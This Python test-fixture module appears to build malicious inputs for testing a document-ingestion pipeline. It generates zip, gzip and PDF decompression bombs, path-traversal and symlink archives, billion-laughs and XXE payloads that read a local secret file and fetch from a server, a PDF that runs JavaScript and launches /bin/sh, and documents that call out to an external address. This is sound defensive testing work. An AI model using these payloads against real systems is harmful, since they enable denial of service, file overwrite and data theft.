"""Makes files that are meant to do harm: bombs that unpack to gigabytes, endless nesting, entities, climbing paths.

All are written piece by piece, so that whoever makes one needs neither the memory nor, for a bomb, the disk for it.
"""

import stat
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from email.message import EmailMessage
from itertools import chain, repeat
from pathlib import Path

from tests.ingest.reading import files

MEGABYTE = 1024 * 1024
_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHOW = "http://schemas.openxmlformats.org/presentationml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_SENTENCE = "Some words that nobody needs to read. "


@dataclass(frozen=True, slots=True)
class Packed:
    """What a compressed stream unpacks to is `size` bytes long; the stream itself is small."""

    stream: bytes
    size: int


def packed(start: str, again: str, end: str, megabytes: int) -> Packed:
    """`start`, then `again` until so many megabytes are full, then `end`, as raw deflate.

    The piece in the middle is compressed once and repeated, because it refers to nothing before it.
    """
    piece = (again * (MEGABYTE // len(again))).encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(start.encode()) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(end.encode()) + packer.flush()
    return Packed(first + middle * megabytes + last, len(start) + len(piece) * megabytes + len(end))


# --- what is in a zip archive


def zipped(path: Path, source: Path, parts: Mapping[str, bytes | str | Packed], claimed: int | None = None) -> Path:
    """The archive `source` with these parts put in place of those of the same name, or added.

    The checksum of a packed part is not true: whoever comes so far has unpacked it. Its size is, unless another one
    is `claimed`.
    """
    with zipfile.ZipFile(source) as whole, zipfile.ZipFile(path, "w") as archive:
        for name in whole.namelist():
            if name not in parts:
                archive.writestr(name, whole.read(name))
        for name, part in parts.items():
            info = zipfile.ZipInfo(name)
            archive.writestr(info, part.stream if isinstance(part, Packed) else part)
            if isinstance(part, Packed):
                # The table of contents, which is written last, is what readers go by.
                info.compress_type = zipfile.ZIP_DEFLATED
                info.file_size = part.size if claimed is None else claimed
    source.unlink()
    return path


def word_part(megabytes: int) -> Packed:
    """The body of a Word document of so many megabytes."""
    paragraph = f"<w:p><w:r><w:t>{_SENTENCE}</w:t></w:r></w:p>"
    return packed(f'<w:document xmlns:w="{_MAIN}"><w:body>', paragraph, "</w:body></w:document>", megabytes)


def sheet_part(megabytes: int) -> Packed:
    """A sheet of so many megabytes."""
    row = f'<row><c t="inlineStr"><is><t>{_SENTENCE}</t></is></c></row>'
    return packed(f'<worksheet xmlns="{_SHEET}"><sheetData>', row, "</sheetData></worksheet>", megabytes)


def slide_part(megabytes: int) -> Packed:
    """A slide of so many megabytes."""
    start = (
        f'<p:sld xmlns:p="{_SHOW}" xmlns:a="{_DRAWING}"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name="a"/>'
        '<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="b"/><p:cNvSpPr/>'
        "<p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>"
    )
    paragraph = f"<a:p><a:r><a:t>{_SENTENCE}</a:t></a:r></a:p>"
    return packed(start, paragraph, "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>", megabytes)


def chapter_part(megabytes: int) -> Packed:
    """A chapter of so many megabytes."""
    return packed("<html><body>", f"<p>{_SENTENCE}</p>", "</body></html>", megabytes)


@dataclass(frozen=True, slots=True)
class Archive:
    """A kind of file that is a zip archive: how to make a small one, its largest part, and what fills that."""

    suffix: str
    make: Callable[[Path], Path]
    part: str
    fill: Callable[[int], Packed]

    def bomb(self, path: Path, megabytes: int, claimed: int | None = None) -> Path:
        """One that unpacks to so many megabytes, and may claim fewer bytes."""
        return zipped(path, self.small(path), {self.part: self.fill(megabytes)}, claimed)

    def with_parts(self, path: Path, parts: Mapping[str, bytes | str | Packed]) -> Path:
        """A small one with these parts besides."""
        return zipped(path, self.small(path), parts)

    def small(self, beside: Path) -> Path:
        """A small one in the same folder."""
        return self.make(beside.with_name(f"small{self.suffix}"))


WORD = Archive(".docx", files.word, "word/document.xml", word_part)
BOOK = Archive(".xlsx", files.workbook, "xl/worksheets/sheet1.xml", sheet_part)
SLIDES = Archive(".pptx", files.slides, "ppt/slides/slide1.xml", slide_part)
EPUB = Archive(".epub", files.epub, "a.xhtml", chapter_part)


def climbing(path: Path, archive: Archive, outside: Path) -> Path:
    """An archive that also holds parts whose names lead out of any folder, and a link that leads to `outside`."""
    steps = "../" * 12
    parts: dict[str, bytes | str | Packed] = {
        f"{steps}{str(outside).lstrip('/')}/climbed.txt": "climbed",
        f"{outside}/absolute.txt": "absolute",
        f"word/{steps}{str(outside).lstrip('/')}/media.png": "media",
        "..\\..\\windows.txt": "backslashes",
    }
    archive.with_parts(path, parts)
    with zipfile.ZipFile(path, "a") as held:
        link = zipfile.ZipInfo("link")
        link.create_system = 3  # Unix
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        held.writestr(link, str(outside))
        held.writestr("link/through.txt", "through the link")
    return path


def many_parts(path: Path, archive: Archive, count: int) -> Path:
    """An archive of so many small parts."""
    return archive.with_parts(path, {f"customXml/item{number}.xml": "<a/>" for number in range(count)})


def many_bombs(path: Path, archive: Archive, count: int) -> Path:
    """An archive of parts of four megabytes each, none of them large by itself."""
    part = packed("<a>", _SENTENCE, "</a>", 4)
    return archive.with_parts(path, {f"customXml/item{number}.xml": part for number in range(count)})


# --- gzip


def packed_articles(path: Path, lines: bool, megabytes: int) -> Path:
    """A packed file of articles: one of so many megabytes, or many short ones."""
    again = f'{{"text":"{_SENTENCE * 25}"}}\n' if lines else _SENTENCE
    part = packed("" if lines else '{"text":"', again, "" if lines else '"}', megabytes)
    # RFC 1952: a header without any extras, and at the end a checksum, here not true, and the size.
    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    path.write_bytes(head + part.stream + bytes(4) + (part.size % 2**32).to_bytes(4, "little"))
    return path


# --- PDF


def pdf_of(path: Path, objects: Iterable[bytes]) -> Path:
    """A PDF of these objects, numbered from 1, the first of them the catalogue."""
    with path.open("wb") as file:
        file.write(b"%PDF-1.7\n")
        places = []
        for number, body in enumerate(objects, 1):
            places.append(file.tell())
            file.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
        start = file.tell()
        file.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
        file.writelines(b"%010d 00000 n \n" % place for place in places)
        file.write(
            b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, start),
        )
    return path


def stream(content: bytes, entries: str = "") -> bytes:
    """An object that is a stream."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries.encode(), content)


def one_page(path: Path, content: bytes, *others: bytes, page: str = "", catalogue: str = "") -> Path:
    """A PDF of one page. `content` is object 4, object 5 a font named F1, `others` come after."""
    return pdf_of(
        path,
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources "
            f"<< /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> {page} >>".encode(),
            content,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(others or (stream(b"", "/Type /XObject /Subtype /Form /BBox [0 0 1 1]"),)),
        ],
    )


def _zlib(part: Packed) -> bytes:
    # RFC 1950: the header; the checksum at the end is not true.
    return b"\x78\xda" + part.stream + bytes(4)


def pdf_text_bomb(path: Path, megabytes: int, filters: int = 1) -> Path:
    """A page whose content unpacks to so many megabytes of text, packed once or several times over."""
    data = _zlib(packed("BT /F1 9 Tf 50 800 Td ", "(Some words.) Tj 0 -1 Td ", " ET", megabytes))
    for _ in range(filters - 1):
        data = zlib.compress(data, 9)
    return one_page(path, stream(data, f"/Filter [{' /FlateDecode' * filters}]"))


def pdf_space_bomb(path: Path, megabytes: int) -> Path:
    """A page whose content is so many megabytes of blanks around a few words."""
    data = _zlib(packed("BT /F1 9 Tf 50 800 Td (A few words that stand on this page.) Tj ET ", " ", " ", megabytes))
    return one_page(path, stream(data, "/Filter /FlateDecode"))


def pdf_picture_bomb(path: Path, side: int) -> Path:
    """A page that is one picture, `side` dots wide and high, black all over."""
    data = _zlib(packed("", "\0" * MEGABYTE, "", side * side * 3 // MEGABYTE + 1))
    picture = stream(
        data,
        f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        "/Filter /FlateDecode",
    )
    return one_page(path, stream(b"q 595 0 0 842 0 0 cm /X1 Do Q"), picture)


def pdf_forms_bomb(path: Path, depth: int, width: int) -> Path:
    """A page that draws a form that draws the next one `width` times, and so on: `width` to the power of `depth`."""
    forms = [
        stream(
            b"/X1 Do " * width if level < depth - 1 else b"BT /F1 9 Tf (Word) Tj ET",
            "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> "
            f"/XObject << /X1 {7 + level} 0 R >> >>",
        )
        for level in range(depth)
    ]
    return one_page(path, stream(b"/X1 Do"), *forms)


def pdf_pages(path: Path, count: int) -> Path:
    """A PDF of so many pages, each with a line of text of its own, all in one list."""
    kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(count))

    def objects() -> Iterator[bytes]:
        yield b"<< /Type /Catalog /Pages 2 0 R >>"
        yield f"<< /Type /Pages /Kids [{kids}] /Count {count} /MediaBox [0 0 595 842] >>".encode()
        yield b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
        for number in range(count):
            yield (
                f"<< /Type /Page /Parent 2 0 R /Contents {5 + 2 * number} 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
            ).encode()
            # Lines that differ by the number of the page only would be taken for running heads.
            line = f"Locker {number * 7 + 11} has the key {number * 13 + 17}."
            yield stream(f"BT /F1 11 Tf 72 700 Td ({line}) Tj ET".encode())

    return pdf_of(path, objects())


def pdf_actions(path: Path, there: str) -> Path:
    """A PDF that wants to open an address, a program and another PDF, and to run a script, when it is opened."""
    link = (
        f"<< /Type /Annot /Subtype /Link /Rect [50 690 300 720] /A << /S /URI /URI ({there}uri) /Next << "
        f"/S /SubmitForm /F << /FS /URL /F ({there}form) >> >> >> >>"
    )
    media = f"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F ({there}far) >> >> >>"
    script = f"app.launchURL('{there}script'); this.submitForm('{there}js');"
    return one_page(
        path,
        stream(b"BT /F1 11 Tf 72 700 Td (The report has an appendix.) Tj ET"),
        stream(b"", f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F ({there}picture) >>"),
        f"<< /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>".encode(),
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /NewWindow true >>",
        page=f"/Annots [{link} {media}] /AA << /O 8 0 R >>",
        catalogue="/OpenAction 7 0 R /Names << /JavaScript << /Names [(a) 7 0 R] >> >>",
    )


# --- text


def nested_html(path: Path, depth: int) -> Path:
    """A web page of boxes in boxes."""
    path.write_text(f"<html><body>{'<div>' * depth}The innermost words.{'</div>' * depth}</body></html>")
    return path


def unclosed_html(path: Path, depth: int) -> Path:
    """A web page of marks that are opened and never closed."""
    path.write_text(f"<html><body>{'<b><i>' * (depth // 2)}The innermost words.")
    return path


def nested_xml(path: Path, depth: int) -> Path:
    """An XML file of elements in elements."""
    path.write_text(f'<?xml version="1.0"?>{"<a>" * depth}The innermost words.{"</a>" * depth}')
    return path


def nested_json(path: Path, depth: int) -> Path:
    """A JSON file of lists in lists."""
    path.write_text("[" * depth + '"The innermost words."' + "]" * depth)
    return path


def nested_records(path: Path, depth: int) -> Path:
    """A JSON file of objects in objects."""
    path.write_text('{"a":' * depth + '"The innermost words."' + "}" * depth)
    return path


def nested_markdown(path: Path, depth: int) -> Path:
    """A Markdown file of quotations in quotations."""
    path.write_text(">" * depth + " The innermost words.\n")
    return path


def long_line(path: Path, megabytes: int) -> Path:
    """A table of one line that is so many megabytes long."""
    piece = ("cell,Ada Lovelace,1815," * (MEGABYTE // 23)).encode()
    with path.open("wb") as file:
        file.writelines(repeat(piece, megabytes))
    return path


def one_cell(path: Path, megabytes: int) -> Path:
    """A table of one quoted cell that is so many megabytes long."""
    with path.open("wb") as file:
        file.writelines(chain([b'"'], repeat(_SENTENCE.encode() * (MEGABYTE // len(_SENTENCE)), megabytes), [b'"']))
    return path


# --- entities and addresses

LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghijk", "bcdefghijkl", strict=True)
) + "]>"  # fmt: skip
LAUGH = "&l;"


def quadratic(size: int) -> tuple[str, str]:
    """The declaration of one long entity, and a text that names it often."""
    return f'<!DOCTYPE x [<!ENTITY a "{"ha " * (size // 3)}">]>', "&a;" * (size // 3)


def outer(there: str, secret: Path) -> tuple[str, str]:
    """The declaration of entities that are to be fetched from a server and from a file, and a text that names them."""
    entities = f'<!ENTITY a SYSTEM "{there}entity"><!ENTITY b SYSTEM "{secret.as_uri()}">'
    return f'<!DOCTYPE x SYSTEM "{there}dtd" [{entities}<!ENTITY % p SYSTEM "{there}more">%p;]>', "&a; &b;"


def xml_with(path: Path, declaration: str, text: str) -> Path:
    """An XML file."""
    path.write_text(f'<?xml version="1.0"?>{declaration}<x><y>Words and {text}</y></x>')
    return path


def feed_with(path: Path, declaration: str, text: str) -> Path:
    """A news feed."""
    path.write_text(
        f'<?xml version="1.0"?>{declaration}<rss version="2.0"><channel><title>News</title><item><title>Day</title>'
        f"<description>Words and {text}</description></item></channel></rss>"
    )
    return path


def xhtml_with(path: Path, declaration: str, text: str) -> Path:
    """A web page that is XML."""
    path.write_text(
        f'<?xml version="1.0"?>{declaration}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Words and {text}</p>'
        "</body></html>"
    )
    return path


def svg_with(path: Path, declaration: str, text: str) -> Path:
    """A drawing, which is read as the XML that it is."""
    path.write_text(
        f'<?xml version="1.0"?>{declaration}<svg xmlns="http://www.w3.org/2000/svg"><text>Words and {text}</text></svg>'
    )
    return path


def word_with(path: Path, declaration: str, text: str) -> Path:
    """A Word document with this in its body."""
    body = (
        f'<w:document xmlns:w="{_MAIN}"><w:body><w:p><w:r><w:t>Words and {text}</w:t></w:r></w:p></w:body></w:document>'
    )
    return WORD.with_parts(path, {WORD.part: f'<?xml version="1.0"?>{declaration}{body}'})


def styles_with(path: Path, declaration: str, text: str) -> Path:
    """A Word document with this in its styles."""
    styles = f'<w:styles xmlns:w="{_MAIN}"><w:style w:styleId="a"><w:name w:val="b"/>{text}</w:style></w:styles>'
    return WORD.with_parts(path, {"word/styles.xml": f'<?xml version="1.0"?>{declaration}{styles}'})


def sheet_with(path: Path, declaration: str, text: str) -> Path:
    """A workbook with this in a cell."""
    sheet = (
        f'<worksheet xmlns="{_SHEET}"><sheetData><row><c t="inlineStr"><is><t>Words and {text}</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return BOOK.with_parts(path, {BOOK.part: f'<?xml version="1.0"?>{declaration}{sheet}'})


def slide_with(path: Path, declaration: str, text: str) -> Path:
    """A presentation with this on a slide."""
    whole = zlib.decompress(slide_part(0).stream, -15).decode()
    slide = whole.replace("<a:bodyPr/>", f"<a:bodyPr/><a:p><a:r><a:t>Words and {text}</a:t></a:r></a:p>")
    return SLIDES.with_parts(path, {SLIDES.part: f'<?xml version="1.0"?>{declaration}{slide}'})


def chapter_with(path: Path, declaration: str, text: str) -> Path:
    """An e-book with this in a chapter."""
    chapter = f"<html><body><p>Words and {text}</p></body></html>"
    return EPUB.with_parts(path, {EPUB.part: f'<?xml version="1.0"?>{declaration}{chapter}'})


def contents_with(path: Path, declaration: str, text: str) -> Path:
    """An e-book with this in its list of contents."""
    package = (
        '<package xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata>'
        f"<dc:title>Words and {text}</dc:title></metadata><manifest>"
        '<item id="a" href="a.xhtml"/></manifest><spine><itemref idref="a"/></spine></package>'
    )
    return EPUB.with_parts(path, {"book.opf": f'<?xml version="1.0"?>{declaration}{package}'})


_PAGE = (
    '<html><head><base href="{0}"><link rel="stylesheet" href="{0}a.css"><script src="{0}a.js"></script>'
    '<meta http-equiv="refresh" content="0;url={0}next"><style>@import "{0}b.css";</style></head>'
    '<body background="{0}back.png"><p>The report is here.</p><img src="{0}a.png" srcset="{0}b.png 2x" alt="Oak">'
    '<iframe src="{0}frame"></iframe><object data="{0}object"></object><embed src="{0}embed"><video src="{0}video">'
    '</video><form action="{0}form"></form><svg><image href="{0}svg.png"/></svg></body></html>'
)


def linked_page(path: Path, there: str) -> Path:
    """A web page that draws on a server in every way that a web page can."""
    path.write_text(_PAGE.format(there))
    return path


def linked_mail(path: Path, there: str) -> Path:
    """An e-mail that is such a page, with an attachment that lies on a server."""
    message = EmailMessage()
    message["Subject"], message["From"] = "News", "ada@example.org"
    message.set_content(_PAGE.format(there), subtype="html")
    message.add_attachment(
        b"", maintype="message", subtype="external-body", params={"access-type": "URL", "URL": there}
    )
    path.write_bytes(message.as_bytes())
    return path


def linked_book(path: Path, there: str) -> Path:
    """An e-book with such a page as a chapter, and with a chapter and a cover that lie on a server."""
    package = (
        '<?xml version="1.0"?><package xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>A book'
        f'</dc:title></metadata><manifest><item id="a" href="a.xhtml"/><item id="b" href="{there}b.xhtml"/>'
        f'<item id="c" href="{there}cover.png" properties="cover-image"/></manifest><spine><itemref idref="a"/>'
        '<itemref idref="b"/><itemref idref="c"/></spine></package>'
    )
    return EPUB.with_parts(path, {"book.opf": package, "a.xhtml": _PAGE.format(there)})


def _relationships(*targets: tuple[str, str, str]) -> str:
    links = "".join(
        f'<Relationship Id="{name}" Type="{_LINKS}/{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in targets
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}">{links}</Relationships>'


def linked_word(path: Path, there: str) -> Path:
    """A Word document whose picture, template and frame lie on a server."""
    body = (
        f'<w:document xmlns:w="{_MAIN}" xmlns:r="{_LINKS}" xmlns:a="{_DRAWING}" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>'
        "<w:p><w:r><w:t>The report is here.</w:t></w:r></w:p><w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>"
        '<pic:pic><pic:blipFill><a:blip r:link="p1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
        '</wp:inline></w:drawing></w:r></w:p><w:p><w:r><w:instrText>INCLUDEPICTURE "'
        f'{there}field.png" \\d</w:instrText></w:r></w:p></w:body></w:document>'
    )
    pictures = _relationships(("p1", "image", f"{there}a.png"), ("p2", "frame", f"{there}frame.docx"))
    template = _relationships(("t1", "attachedTemplate", f"{there}template.dotm"))
    parts = {"word/document.xml": body, "word/_rels/document.xml.rels": pictures}
    return WORD.with_parts(path, {**parts, "word/_rels/settings.xml.rels": template})


def linked_slides(path: Path, there: str) -> Path:
    """A presentation with a picture and a film that lie on a server."""
    slide = zlib.decompress(slide_part(0).stream, -15).decode()
    slide = slide.replace("<a:bodyPr/>", "<a:bodyPr/><a:p><a:r><a:t>The report is here.</a:t></a:r></a:p>")
    picture = (
        f'<p:pic><p:nvPicPr><p:cNvPr id="3" name="c" descr="An oak"/><p:cNvPicPr/><p:nvPr><a:videoFile '
        f'xmlns:r="{_LINKS}" r:link="p2"/></p:nvPr></p:nvPicPr><p:blipFill>'
        f'<a:blip xmlns:r="{_LINKS}" r:link="p1"/></p:blipFill><p:spPr/>'
        "</p:pic></p:spTree>"
    )
    layout = (
        f'<Relationship Id="l1" Type="{_LINKS}/slideLayout" Target="../slideLayouts/slideLayout2.xml"/></Relationships>'
    )
    links = _relationships(("p1", "image", f"{there}a.png"), ("p2", "video", f"{there}a.mp4"))
    links = links.replace("</Relationships>", layout)
    parts = {SLIDES.part: slide.replace("</p:spTree>", picture), "ppt/slides/_rels/slide1.xml.rels": links}
    return SLIDES.with_parts(path, parts)


def linked_workbook(path: Path, there: str) -> Path:
    """A workbook that counts on another one, asks a web service, and has a picture, all on a server."""
    formulas = [f'WEBSERVICE("{there}service")', f"'[{there}other.xlsx]Sheet1'!A1", f'HYPERLINK("{there}link")']
    cells = "".join(f"<c><f>{formula.replace(chr(34), '&quot;')}</f><v>7</v></c>" for formula in formulas)
    sheet = (
        f'<worksheet xmlns="{_SHEET}" xmlns:r="{_LINKS}"><sheetData><row><c t="inlineStr"><is><t>The report is here.'
        f'</t></is></c>{cells}</row></sheetData><picture r:id="p1"/></worksheet>'
    )
    other = f'<externalLink xmlns="{_SHEET}"><externalBook xmlns:r="{_LINKS}" r:id="e1"/></externalLink>'
    parts = {
        BOOK.part: sheet,
        "xl/worksheets/_rels/sheet1.xml.rels": _relationships(("p1", "image", f"{there}a.png")),
        "xl/externalLinks/externalLink1.xml": other,
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relationships(("e1", "externalLinkPath", f"{there}o.xlsx")),
    }
    return BOOK.with_parts(path, parts)
